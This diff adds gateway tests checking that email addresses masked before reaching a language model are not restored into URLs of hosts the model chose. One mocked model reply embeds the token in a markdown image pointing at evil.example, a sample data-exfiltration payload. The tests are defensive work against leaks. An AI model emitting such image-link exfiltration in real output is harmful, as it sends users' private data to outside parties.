@@ -171,3 +171,72 @@ describe('large requests', () => {
     }
   });
 });
+
+describe('restoring', () => {
+  const modelSays = (write: (token: string) => string, input?: object) => {
+    upstream.answer((request, response) => {
+      const token = /cgm[0-9a-z]+@cg\.test/.exec(request.body)?.[0] ?? '';
+      const content = [
+        { type: 'text', text: write(token) },
+        ...(input ? [{ type: 'tool_use', id: 't', name: 'f', input: { to: token } }] : []),
+      ];
+      const usage = { input_tokens: 1, output_tokens: 1 };
+      response.writeHead(200, { 'content-type': 'application/json' });
+      response.end(
+        JSON.stringify({
+          ...{ id: 'm', type: 'message', role: 'assistant', model: 'm', usage, content },
+          stop_reason: 'end_turn',
+        }),
+      );
+    });
+  };
+  const answerTo = async (content: string, headers = tenant.headers) => {
+    const body = aMessage({ messages: [{ role: 'user', content }] });
+    return (await (await call(gateway, '/v1/messages', body, headers)).json()) as {
+      content: { text?: string; input?: unknown }[];
+    };
+  };
+
+  it('M-deputy: does not put a value into an image of a host that the model chose', async () => {
+    modelSays((token) => `${token} ![x](https://evil.example/?d=${token})`);
+    const { content } = await answerTo(`I am ${mail}`);
+
+    expect(content[0]!.text).toMatch(/^bob\.secret@corp-internal\.com !\[x\]\(https:\/\/evil/);
+    expect(content[0]!.text!.split(mail)).toHaveLength(2);
+  });
+
+  it('M-deputy: restores in the URL of a host that the user or the admin named', async () => {
+    modelSays((token) => `https://crm.example/?d=${token}`);
+    expect((await answerTo(`${mail} https://crm.example/`)).content[0]!.text).toContain(mail);
+    expect((await answerTo(`only ${mail}`)).content[0]!.text).not.toContain(mail);
+
+    const setting = { restoreHosts: ['crm.example'], tenantId: tenant.id };
+    const updated = await gateway.must('PUT', '/api/guardrails/email', setting);
+    expect(updated.restoreHosts).toEqual(['crm.example']);
+    expect((await answerTo(`only ${mail}`)).content[0]!.text).toContain(mail);
+    const reset = { restoreHosts: null, tenantId: tenant.id };
+    await gateway.must('PUT', '/api/guardrails/email', reset);
+  });
+
+  it('M-deputy: does not restore a token that the request does not hold', async () => {
+    let known = '';
+    modelSays((token) => (known ||= token));
+    await answerTo(`I am ${mail}`);
+    modelSays(() => known);
+
+    expect((await answerTo('who am I?')).content[0]!.text).toBe(known);
+    expect((await answerTo(`who is ${known}?`)).content[0]!.text).toBe(mail);
+  });
+
+  it.each([
+    ['text', [mail, expect.stringContaining('cg.test')]],
+    ['arguments', [expect.stringContaining('cg.test'), mail]],
+    [null, [mail, mail]],
+  ])('M-deputy: restores in %s only, as the admin says', async (restore, [text, to]) => {
+    modelSays((token) => token, {});
+    await gateway.must('PUT', '/api/guardrails/email', { restore, tenantId: tenant.id });
+
+    const { content } = await answerTo(`I am ${mail}`);
+    expect(content).toMatchObject([{ text }, { input: { to } }]);
+  });
+});
